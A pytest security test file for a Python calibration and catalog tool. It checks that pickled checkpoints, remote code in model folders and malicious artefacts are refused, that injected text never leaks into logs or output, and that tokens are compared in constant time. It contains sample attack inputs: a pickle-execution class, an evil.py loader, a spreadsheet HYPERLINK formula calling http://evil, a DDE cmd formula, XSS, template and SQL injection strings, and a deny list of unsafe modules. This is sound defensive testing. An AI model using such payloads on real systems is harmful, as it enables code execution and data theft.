"""Nothing of a checkpoint, artefact or data set is run, and no text leaves its file."""

from __future__ import annotations

import ast
import csv
import hmac
import json
import os
import pickle
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from api.service import tokens
from catalog.store.database import Store
from catalog.store.tables import metadata

ROOT = Path(__file__).resolve().parents[1]
PACKAGES = ("advisor", "api", "calibration", "catalog")
CANARY = "Kanarienvogel"
Tried = Callable[[int], None]
COMMAND = """
from api.cli.main import app
from calibration import records

records.PROFILES["quick"] = records.Profile(
    name="quick", window_s=0.1, repeats=3, warmup_s=0.1, retries=0
)
app()
"""
"""`joulewise` with windows of a tenth of a second."""
TEXTS = (
    f'=HYPERLINK("http://evil/?{CANARY}")',
    f"@SUM(1+1)*cmd|' /C {CANARY}'!A0",
    f"<script>alert('{CANARY}')</script>",
    f"{{{{ 7*7 }}}} {CANARY}",
    f"'; DROP TABLE measurement; -- {CANARY}",
    f"{CANARY} \x1b[31m\u202e",
)


class Boom:
    """Writes a file when it is unpickled."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return Path.write_text, (self.path, "run")


def test_nothing_in_the_code_unpickles_or_runs_remote_code(tried: Tried) -> None:
    """No module loads pickles, evaluates text or trusts a checkpoint's code."""
    files = [file for name in PACKAGES for file in (ROOT / name).rglob("*.py")]
    banned = {"pickle", "cPickle", "dill", "cloudpickle", "marshal", "shelve"}
    calls = {"eval", "exec"}
    for file in files:
        for node in ast.walk(ast.parse(file.read_text(encoding="utf-8"))):
            where = f"{file.relative_to(ROOT)}:{getattr(node, 'lineno', 0)}"
            if isinstance(node, ast.Import):
                assert not {alias.name.split(".")[0] for alias in node.names} & banned, where
            if isinstance(node, ast.ImportFrom):
                assert (node.module or "").split(".")[0] not in banned, where
            if isinstance(node, ast.Call):
                called = ast.unparse(node.func)
                assert called not in calls, where
                assert called not in {"torch.load", "joblib.load"}, where
                if called in {"np.load", "numpy.load"}:
                    assert "allow_pickle=False" in ast.unparse(node), where
                for keyword in node.keywords:
                    if keyword.arg == "trust_remote_code":
                        assert ast.unparse(keyword.value) == "False", where
                    if keyword.arg == "use_safetensors":
                        assert ast.unparse(keyword.value) == "True", where
    tried(len(files))


@pytest.mark.parametrize("name", ["pytorch_model.bin", "model.pt", "model.safetensors"])
def test_a_pickle_in_a_checkpoint_is_never_loaded(name: str, tmp_path: Path) -> None:
    """A checkpoint whose weights are a pickle, by whatever name, cannot run and does nothing."""
    pytest.importorskip("transformers")
    from calibration.classifiers import checkpoints
    from calibration.classifiers.errors import CannotRunError

    trap, folder = tmp_path / "sprung", tmp_path / "checkpoint"
    folder.mkdir()
    config = {
        "model_type": "bert", "architectures": ["BertModel"], "vocab_size": 10,
        "hidden_size": 8, "num_attention_heads": 1, "num_hidden_layers": 1, "intermediate_size": 8,
    }  # fmt: skip
    (folder / "config.json").write_text(json.dumps(config))
    (folder / name).write_bytes(pickle.dumps(Boom(trap)))
    (folder / "training_args.bin").write_bytes(pickle.dumps(Boom(trap)))
    with pytest.raises(Exception) as caught:  # noqa: PT011
        checkpoints.load("AutoModel", str(folder), "fp32", "cpu")
    assert isinstance(caught.value, CannotRunError), repr(caught.value)
    assert not trap.exists()


def test_code_in_a_checkpoint_is_never_run(tmp_path: Path) -> None:
    """`auto_map` that points to a file of the folder is refused, for weights and tokenizers."""
    pytest.importorskip("transformers")
    from calibration.classifiers import checkpoints
    from calibration.classifiers.errors import CannotRunError

    trap, folder = tmp_path / "sprung", tmp_path / "checkpoint"
    folder.mkdir()
    (folder / "evil.py").write_text(f"open({str(trap)!r}, 'w')\nclass M: pass\nclass C: pass\n")
    auto = {"AutoConfig": "evil.C", "AutoModel": "evil.M", "AutoTokenizer": ["evil.M", "evil.M"]}
    for file in ("config.json", "tokenizer_config.json"):
        (folder / file).write_text(json.dumps({"model_type": "evil", "auto_map": auto}))
    for load in (
        lambda: checkpoints.load("AutoModel", str(folder), "fp32", "cpu"),
        lambda: checkpoints.load_tokenizer(str(folder)),
    ):
        with pytest.raises(CannotRunError):
            load()
    assert not trap.exists()


def test_an_artefact_with_a_pickle_is_refused_unread(tmp_path: Path) -> None:
    """Pickles in the place of an estimator's files are an error and never loaded."""
    import shutil

    from advisor.estimator import estimator

    bundled = ROOT / "advisor" / "artefact"
    if not bundled.is_dir():
        (bundled,) = {path.parent for path in (ROOT / "advisor").rglob("scorecard.json")}
    trap, tried_files = tmp_path / "sprung", 0
    for file in sorted(path for path in bundled.iterdir() if path.is_file()):
        folder = tmp_path / f"with-{file.name}"
        shutil.copytree(bundled, folder)
        (folder / file.name).write_bytes(pickle.dumps(Boom(trap)))
        try:
            estimator.load(folder)
        except (ValueError, RuntimeError, OSError) as error:
            tried_files += bool(str(error))
        assert not trap.exists()
    assert tried_files >= 1


def test_texts_enter_neither_catalog_nor_logs_nor_output(
    url: str, tmp_path: Path, tried: Tried, command: Callable[..., subprocess.CompletedProcess[str]]
) -> None:
    """Formulas, markup and a canary in texts are classified and shown nowhere."""
    data = tmp_path / "data"
    data.mkdir()
    with (data / "notes.csv").open("w", newline="", encoding="utf-8") as file:
        writer = csv.writer(file)
        writer.writerow(["text", "label"])
        for number in range(60):
            writer.writerow([f"{TEXTS[number % len(TEXTS)]} {number}", number % 2])
    environment = {k: v for k, v in os.environ.items() if not k.startswith("JOULEWISE_")} | {
        "JOULEWISE_CATALOG": url, "JOULEWISE_DATA": str(data), "TMPDIR": str(tmp_path),
        "XDG_STATE_HOME": str(tmp_path / "state"), "PYTHONPATH": str(ROOT),
    }  # fmt: skip

    def shown(done: subprocess.CompletedProcess[str]) -> str:
        return f"{done.returncode} {done.stdout} {done.stderr}"

    def calibrate(*words: str) -> str:
        return shown(subprocess.run(
            [sys.executable, "-c", COMMAND, "calibrate", *words], cwd=tmp_path,
            env=environment, capture_output=True, text=True, check=False, timeout=300,
        ))  # fmt: skip

    def joulewise(*words: str) -> str:
        return shown(command(*words, environment=environment, cwd=tmp_path))

    said = [
        calibrate("--workload", "notes", "--candidate", "bow-complement-nb",
                  "--log", "own.log", "--profile", "quick"),
        joulewise("catalog", "export", "out.csv", "--own"),
        joulewise("catalog", "list", "--json"),
        joulewise("recommend", "--task", "notes", "--min-acc", "0.1", "--json"),
    ]  # fmt: skip
    assert said[0].startswith(("0", "6")), said[0]
    (data / "broken.csv").write_text(f'text,label\n"{CANARY} open,1\n{CANARY}', encoding="utf-8")
    said.append(calibrate("--workload", "broken", "--candidate", "bow-complement-nb"))
    assert not said[-1].startswith("0")
    store = Store(url)
    with store.engine.connect() as connection:
        cells = [repr(connection.execute(t.select()).all()) for t in metadata.sorted_tables]
    store.engine.dispose()
    assert "notes" in "".join(cells)
    files = [file for file in tmp_path.rglob("*") if file.is_file() and data not in file.parents]
    for content in (*said, *cells):
        assert CANARY.lower() not in content.lower()
    for file in files:
        assert CANARY.lower().encode() not in file.read_bytes().lower(), file
    tried(len(said) + len(files) + len(cells))


def test_every_token_is_compared_in_constant_time(
    store: Store, monkeypatch: pytest.MonkeyPatch, tried: Tried
) -> None:
    """Each known hash is compared whole by `hmac.compare_digest`, whether one matched or not."""
    secrets = [tokens.create(store) for _ in range(3)]
    compared: list[tuple[str, str]] = []
    real = hmac.compare_digest

    def spy(known: str, came: str) -> bool:
        compared.append((known, came))
        return real(known, came)

    monkeypatch.setattr(hmac, "compare_digest", spy)
    tokens.revoke(store, secrets[2])
    wrong = ["", "x", secrets[0][:-1], secrets[0] + "x", secrets[0].swapcase(), secrets[2], "ä\0"]
    for secret, scopes in [(s, set()) for s in wrong] + [(secrets[0], {"write"})]:
        compared.clear()
        assert tokens.scopes_of(secret, store) == scopes
        assert len(compared) == 2
        assert {len(part) for pair in compared for part in pair} == {64}
    tried(len(wrong) + 1)
